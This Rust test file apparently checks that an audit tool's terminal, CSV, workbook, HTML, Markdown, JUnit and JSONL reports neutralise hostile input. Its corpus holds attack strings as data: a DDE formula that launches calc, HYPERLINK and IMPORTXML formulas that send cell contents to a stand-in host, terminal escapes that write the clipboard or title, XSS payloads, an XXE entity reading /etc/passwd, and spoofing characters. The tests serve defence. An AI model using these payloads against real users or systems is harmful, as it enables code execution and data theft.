//! Cells, headers and file names that mean something to a terminal, a spreadsheet, a browser, a
//! code host or a parser: nothing of them comes out alive, in any format or language.

use super::super::harness::{Ran, folder, run_in};
use super::NAMES;
use roxmltree::{Document, ParsingOptions};
use std::io::Read;
use std::path::Path;

/// What others have been attacked with: OWASP's list for spreadsheets, escape sequences that write
/// titles, links, clipboards and answers of terminals, markup for pages and code hosts.
const CORPUS: [&str; 32] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://e.example/?\"&A1,\"more\")",
    "=IMPORTXML(CONCAT(\"http://e.example/\",A1),\"//a\")",
    "-2+3+cmd|' /C calc'!A0",
    "@x",
    "\u{ff1d}1+1",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://e.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobw==\x07",
    "\x1bP$q\"p\x1b\\",
    "\u{9b}2J",
    "a\u{202e}gpj.exe",
    "a\u{200b}b\u{feff}",
    "a\u{2066}b\u{2069}",
    "bell\x07\x08\x08",
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "</title></style><svg onload=alert(1)>",
    "javascript:alert(1)",
    "]]>&lt;!ENTITY x SYSTEM \"file:///etc/passwd\"&gt;",
    "&#60;script&#62;",
    "{ $count }",
    "a | b | c",
    "[x](http://e.example) ![y](http://e.example/p.png)",
    "**bold** `code` <b>b</b> @team #1",
    "-->",
];

/// A cell as CSV has it.
fn quoted(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

/// Two late orders for each of the corpus, once in every column of a text.
fn exports() -> tempfile::TempDir {
    let mut text = format!(
        "order_id,customer,carrier,sku,promised_by,delivered_at,total,currency,{}\n",
        quoted("<script>=1+1\x1b[2J")
    );
    for (place, cell) in CORPUS.iter().enumerate() {
        let cell = quoted(cell);
        let rest = "2026-03-01,2026-03-09,1,EUR,x";
        text.push_str(&format!("{cell},{cell},{cell},{cell},{rest}\n"));
        text.push_str(&format!("{place:03},{cell},{cell},{cell},{rest}\n"));
    }
    folder(&[("=1+1 <img src=x>.csv", &text)])
}

fn audit(files: &Path, words: &str) -> Ran {
    let all = ["audit", ".", "--as-of", "2026-03-31", "--no-contract", "-q", "--all"];
    let ran = run_in(files, &all.into_iter().chain(words.split(' ')).collect::<Vec<_>>());
    assert!(matches!(ran.code, 1 | 3), "{words}: {}", ran.err);
    ran
}

/// Every way to write a report that changes its texts.
const WAYS: [&str; 4] = ["--lang en", "--lang ru", "--redact", "--group-by customer"];

#[test]
fn a_terminal_gets_no_sequence_but_the_colours_of_the_program() {
    let files = exports();
    for way in WAYS {
        for look in ["--color never", "--color always --width 80", "--color always --width 30"] {
            let mut text = audit(files.path(), &format!("{look} {way}")).out;
            for own in ["\x1b[0m", "\x1b[1m", "\x1b[31m", "\x1b[32m", "\x1b[33m"] {
                text = text.replace(own, "");
            }
            let hidden = text.chars().find(|&one| one != '\n' && promised::render::is_hidden(one));
            assert_eq!(hidden, None, "{look} {way}");
        }
    }
}

#[test]
fn a_spreadsheet_gets_no_formula() {
    let files = exports();
    for (way, delimiter) in
        [("--lang en", b','), ("--excel sv", b';'), ("--excel en", b','), ("--redact", b',')]
    {
        let csv = audit(files.path(), &format!("--format csv {way}")).out;
        let csv = csv.trim_start_matches('\u{feff}');
        let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).from_reader(csv.as_bytes());
        let mut cells = 0;
        for cell in reader
            .records()
            .map(|row| row.expect("a row"))
            .flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>())
        {
            cells += 1;
            let is_number = cell.replace(',', ".").replace('\u{a0}', "").parse::<f64>().is_ok();
            let is_live = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{ff1d}']);
            assert!(!is_live || is_number, "{way}: {cell:?}");
        }
        assert!(cells > 500, "{way}");
    }
}

#[test]
fn a_workbook_holds_texts_and_nothing_that_runs_or_leads_out() {
    let files = exports();
    for way in ["--lang en", "--lang ru", "--redact"] {
        let to = tempfile::tempdir().expect("a temporary folder");
        let path = to.path().join("a.xlsx");
        audit(files.path(), &format!("{way} -o {}", path.display()));
        let file = std::fs::File::open(&path).expect("a workbook");
        let mut archive = zip::ZipArchive::new(file).expect("an archive");
        for place in 0..archive.len() {
            let mut part = archive.by_index(place).expect("a part");
            let mut text = String::new();
            part.read_to_string(&mut text).expect("text");
            let name = part.name().expect("a name").into_owned();
            Document::parse(&text).unwrap_or_else(|why| panic!("{name}: {why}"));
            let is_sheet = name.starts_with("xl/worksheets/");
            for live in ["<f>", "<f ", "<hyperlink", "ddeLink", "externalLink", "vbaProject"] {
                assert!(!text.contains(live), "{way}: {live} in {name}");
            }
            assert!(!is_sheet || !text.contains("TargetMode"), "{way}: {name}");
        }
    }
}

#[test]
fn a_page_holds_its_own_script_and_links_to_itself() {
    let files = exports();
    for way in WAYS {
        let page = audit(files.path(), &format!("--format html {way}")).out;
        let options = ParsingOptions { allow_dtd: true, ..ParsingOptions::default() };
        let page = Document::parse_with_options(&page, options).expect("a page");
        let named = |name: &str| page.descendants().filter(|one| one.has_tag_name(name)).count();
        assert_eq!((named("script"), named("style")), (1, 1), "{way}");
        for node in page.descendants().filter(|one| one.is_element()) {
            let name = node.tag_name().name();
            assert!(
                !["img", "iframe", "object", "embed", "form", "base"].contains(&name),
                "{name}"
            );
            for attribute in node.attributes() {
                let (name, value) = (attribute.name(), attribute.value());
                assert!(!name.starts_with("on"), "{way}: {name}={value}");
                let leads = ["href", "src", "action"].contains(&name);
                // The picture of the tab is an empty one, so that none is asked for.
                let is_own = value.starts_with('#') || value == "data:,";
                assert!(!leads || is_own, "{way}: {name}={value}");
            }
        }
    }
}

#[test]
fn a_code_host_gets_no_markup_and_a_dashboard_no_element() {
    let files = exports();
    for way in ["--lang en", "--lang ru", "--redact"] {
        let text = audit(files.path(), &format!("--format md {way}")).out;
        for live in ["<script", "<img", "<svg", "<b>", "](http", "![y]", "**bold**", "`code`"] {
            assert!(!text.contains(live), "{way}: {live}\n{text}");
        }
        let rows = text.lines().filter(|line| line.starts_with("| "));
        assert!(rows.clone().count() > 10, "{way}");
        let xml = audit(files.path(), &format!("--format junit {way}")).out;
        let xml = Document::parse(&xml).expect("XML");
        let known = ["testsuites", "testsuite", "testcase", "failure", "error", "skipped"];
        let known = known.into_iter().chain(["system-out", "properties", "property"]);
        let known: Vec<_> = known.collect();
        for node in xml.descendants().filter(|one| one.is_element()) {
            assert!(known.contains(&node.tag_name().name()), "{way}: {}", node.tag_name().name());
        }
    }
}

#[test]
fn programs_get_the_texts_as_they_can_be_shown() {
    let files = exports();
    let lines = audit(files.path(), "--format jsonl").out;
    for line in lines.lines() {
        let _: serde_json::Value = serde_json::from_str(line).expect("JSON");
        let hidden = line.chars().find(|&mark| promised::render::is_hidden(mark));
        assert_eq!(hidden, None, "{line}");
    }
}

#[test]
fn a_saved_run_is_as_dead_when_it_is_written_again() {
    let files = exports();
    let to = tempfile::tempdir().expect("a temporary folder");
    let save = |name: &str| to.path().join(name).display().to_string();
    let outputs: Vec<_> = NAMES.iter().map(|name| format!("-o {}", save(name))).collect();
    audit(files.path(), &outputs.join(" "));
    let page = run_in(to.path(), &["report", "a.json", "--all", "--format", "html"]).out;
    assert_eq!(page, std::fs::read_to_string(to.path().join("a.html")).expect("a page"));
}
